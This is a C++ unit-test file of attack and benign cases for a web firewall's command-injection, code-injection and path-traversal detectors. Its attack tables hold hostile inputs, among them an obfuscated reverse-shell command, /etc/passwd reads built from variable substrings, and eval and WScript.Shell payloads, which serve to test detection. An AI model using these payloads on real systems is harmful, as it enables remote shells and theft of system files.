// Case tables for the command-injection and path-traversal classes added to cmdi_detector.cc
// and lfi_detector.cc: attacks that must be found, and hard benign values that must not.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::detects;

void table(testing::Detector d, const std::vector<std::string>& attacks,
           const std::vector<std::string>& benign, Source source = Source::query) {
  for (const auto& a : attacks) EXPECT_TRUE(detects(d, a, source)) << "missed attack: " << a;
  for (const auto& b : benign) EXPECT_FALSE(detects(d, b, source)) << "false positive: " << b;
}

TEST(WafRceCases, CommandSubstitutionAfterPadding) {
  table(detect_cmdi,
        {std::string(40, 'A') + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
         "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`id`",
         "name=$(whoami)"},
        {"$(document).ready(function(){})", "price $(USD) 5",
         "it costs $(10)", "`code` spans"});
}

TEST(WafRceCases, ATrailingNewlineMakesNoProse) {
  EXPECT_FALSE(looks_like_prose(";`cat<<<sh -c whoami`\n"));
  EXPECT_FALSE(looks_like_prose("\n\nid\r\n"));
  EXPECT_TRUE(looks_like_prose("first line\nsecond line"));
  EXPECT_TRUE(looks_like_prose("a sentence with more than six blanks in it"));
}

TEST(WafRceCases, SubstringExpansions) {
  table(detect_cmdi, {";${PATH:0:1}bin${PATH:0:1}cat ${HOME:0:1}etc/passwd", "${x:0:1}"},
        {"${HOME}/bin", "${name:-default}", "price: ${total}"});
}

TEST(WafRceCases, CodeFromStringFragments) {
  table(detect_code_injection,
        {"Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\")", "x='ev'+'al'+'(1)'",
         "CreateObject(\"WScript.Shell\").Run(\"calc\")"},
        {"\"Tom\" & \"Jerry\" are friends", "\"a long quoted sentence\" & \"another one\" & \"third\"",
         "say \"hi\" & \"bye\""});
}

TEST(WafLfiCases, HexSpelledAndRootedClimbs) {
  table(detect_lfi,
        {"/..0x2f{file}", "/0x2e0x2e/etc/passwd", "/0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd", "////../../x", "/./../../.x",
         "../../etc/passwd"},
        {"../README.md", "see ../docs", "0x2e is a dot", "version 0x2f", "/a/b/c", "./configure && make",
         "a/../b"});
}

}  // namespace
}  // namespace defender::cnaf::waf
